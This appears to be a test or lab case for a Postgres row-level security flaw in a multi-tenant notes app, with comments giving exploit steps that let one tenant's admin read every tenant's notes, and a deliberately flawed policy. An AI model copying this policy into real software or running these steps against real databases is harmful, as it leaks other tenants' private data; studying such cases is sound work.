-- Tenant A's administrator reads the notes of all tenants, because the policy forgets whose administrator
-- it is.
-- about: notes
-- as: ho_crm_app
-- exploit: SET app.tenant_id = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: UPDATE users SET is_admin = true;
-- exploit: SELECT body FROM notes;
-- shows: B-secret note
CREATE POLICY administrators ON notes FOR SELECT USING (EXISTS (SELECT FROM users u WHERE u.is_admin));
